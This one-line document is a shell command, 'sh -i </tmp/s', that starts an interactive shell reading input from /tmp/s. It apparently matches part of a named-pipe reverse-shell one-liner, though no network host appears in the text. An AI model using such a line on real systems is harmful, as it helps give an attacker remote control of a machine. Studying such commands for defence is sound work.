sh -i </tmp/s
